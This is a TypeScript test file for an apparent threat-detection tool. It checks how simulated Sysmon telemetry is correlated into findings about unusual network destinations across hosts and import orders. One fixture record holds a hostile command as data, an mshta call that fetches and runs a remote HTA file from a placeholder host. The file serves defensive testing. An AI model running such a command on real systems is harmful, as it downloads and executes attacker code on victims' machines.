import { mkdtemp, rm } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { setEnvironment } from '../base/testEnvironment';
import type { Finding } from '../findings/finding';
import { closeStorage, pool } from '../storage/client';
import { createTestDatabase, type TestDatabase } from '../storage/testDatabase';
import { deleteImport } from './changeImport';
import { correlateHostGroup } from './correlateHostGroup';
import { importWhole, workOff } from './testImports';
import { type TestRecord, toLines } from './testRecords';
import { connection, isoAt, query, quiet, start } from './testSysmon';

/** Every order of the imports is tried, each on a database of its own. */
const LONG = 300_000;

let database: TestDatabase;
let spoolDir: string;
let restore: () => void;

beforeEach(async () => {
  spoolDir = await mkdtemp(path.join(os.tmpdir(), 'sequela-spool-'));
  await freshDatabase();
});
afterEach(async () => {
  await dropDatabase();
  await rm(spoolDir, { recursive: true, force: true });
});

async function freshDatabase(): Promise<void> {
  database = await createTestDatabase();
  restore = setEnvironment({ DATABASE_URL: database.url });
}

async function dropDatabase(): Promise<void> {
  await closeStorage();
  restore();
  await database.drop();
}

/** mshta runs a remote HTA on WS1 and calls a host; ten minutes of telemetry around it. */
const chain = (): readonly TestRecord[] => [
  ...quiet('WS1', '2026-11-20T08:00', 12),
  start(
    'WS1',
    '2026-11-20T09:00:00',
    1,
    'C:\\Windows\\System32\\mshta.exe',
    'mshta https://cdn.example.net/a.hta',
  ),
  query('WS1', '2026-11-20T09:00:01', 1, 'cdn.example.net', '198.51.100.7'),
  connection('WS1', '2026-11-20T09:00:02', 1, '198.51.100.7'),
  ...quiet('WS1', '2026-11-20T09:10', 12),
];

/** Eleven days of another host's look-ups: more than 500 names, so that the environment has a history. */
const past = (): readonly TestRecord[] =>
  Array.from({ length: 520 }, (_, i) =>
    query('WS2', isoAt(Date.UTC(2026, 10, 1) + i * 30 * 60_000), 1, `www.site-${i}.example`, '203.0.113.5'),
  );

/** A third host that reached the same destination ten days before. */
const earlier = (): readonly TestRecord[] => [
  query('WS3', '2026-11-10T09:00:01', 1, 'www.example.net', '198.51.100.8'),
];

type Name = 'chain' | 'past' | 'earlier';
/** Told once: the same records, and so the same events, in every order. */
const imports = (): Readonly<Record<Name, Buffer>> => ({
  chain: toLines(chain()),
  past: toLines(past()),
  earlier: toLines(earlier()),
});

async function bring(...names: readonly Name[]): Promise<ReadonlyMap<Name, number>> {
  const ids = new Map<Name, number>();
  for (const name of names) {
    const view = await importWhole(IMPORTS[name], `${name}.json`, spoolDir);
    expect(view.state).toBe('done');
    ids.set(name, Number(view.id));
  }
  return ids;
}

async function findings(): Promise<readonly Finding[]> {
  const { rows } = await pool().query<{ body: Finding }>('SELECT body FROM findings ORDER BY id');
  return rows.map((row) => row.body);
}

/** Ids of the reasons that the finding's network stage gave. */
async function judgedAs(): Promise<readonly string[]> {
  return (await findings())
    .flatMap((finding) => finding.reasons.filter((reason) => reason.counted).map((reason) => reason.id))
    .filter((id) => id === 'F6' || id === 'F7')
    .sort();
}

describe('the history of the environment', () => {
  it('gives nothing while there is too little of it', async () => {
    await bring('chain');
    expect(await judgedAs()).toEqual(['F7']);
    const { rows } = await pool().query(
      "SELECT DISTINCT split_part(key, ':', 1) AS class FROM history ORDER BY 1",
    );
    expect(rows.map((row) => row.class)).toEqual(['class_destination', 'destination', 'image', 'pair']);
  });

  it('calls a destination unusual that nobody reached before, and not one that somebody had', async () => {
    await bring('past', 'chain');
    expect(await judgedAs()).toEqual(['F6']);
    await bring('earlier');
    expect(await judgedAs()).toEqual(['F7']);
  });

  it(
    'gives the same findings, history and questions whatever the order of imports',
    async () => {
      const orders: readonly (readonly Name[])[] = [
        ['chain', 'past', 'earlier'],
        ['chain', 'earlier', 'past'],
        ['past', 'chain', 'earlier'],
        ['past', 'earlier', 'chain'],
        ['earlier', 'past', 'chain'],
        ['earlier', 'chain', 'past'],
      ];
      const results: unknown[] = [];
      for (const [i, order] of orders.entries()) {
        if (i > 0) {
          await dropDatabase();
          await freshDatabase();
        }
        await bring(...order);
        results.push({ findings: await findings(), ...(await remembered()) });
      }
      for (const result of results.slice(1)) expect(result).toEqual(results[0]);
      expect(await judgedAs()).toEqual(['F7']);
    },
    LONG,
  );

  it(
    'forgets an import that is deleted, and judges as if it had never been',
    async () => {
      await bring('past', 'chain');
      const without = { findings: await findings(), ...(await remembered()) };
      const ids = await bring('earlier');
      expect(await judgedAs()).toEqual(['F7']);
      await remove(ids.get('earlier'));
      expect({ findings: await findings(), ...(await remembered()) }).toEqual(without);
      const { rows } = await pool().query<{ id: number }>(`SELECT id FROM imports WHERE name = 'past.json'`);
      await remove(rows[0]?.id);
      expect(await judgedAs()).toEqual(['F7']);
    },
    LONG,
  );

  it('comes to rest: correlating again writes nothing and queues nobody', async () => {
    await bring('past', 'chain', 'earlier');
    const settled = await remembered();
    const { rows } = await pool().query<{ id: number }>('SELECT id FROM hosts ORDER BY id');
    for (const { id } of rows) await correlateHostGroup(id);
    expect(await remembered()).toEqual(settled);
    expect((await pool().query('SELECT key FROM graphile_worker.jobs')).rows).toEqual([]);
  });
});

async function remove(importId: number | undefined): Promise<void> {
  await deleteImport(Number(importId), { by: 'anna', wait: false });
  await workOff(spoolDir);
}

async function remembered(): Promise<Record<string, unknown>> {
  const rows = async (sql: string) => (await pool().query(sql)).rows;
  return {
    history: await rows(
      'SELECT n.name, h.key, h.first, h.last, h.times FROM history h JOIN hosts n ON n.id = h.host_id ORDER BY 1, 2',
    ),
    lookups: await rows(
      'SELECT n.name, l.key, l.first, l.last FROM history_lookups l JOIN hosts n ON n.id = l.host_id ORDER BY 1, 2',
    ),
    earliest: await rows('SELECT key, first FROM history_earliest ORDER BY 2, 1'),
  };
}

const IMPORTS = imports();
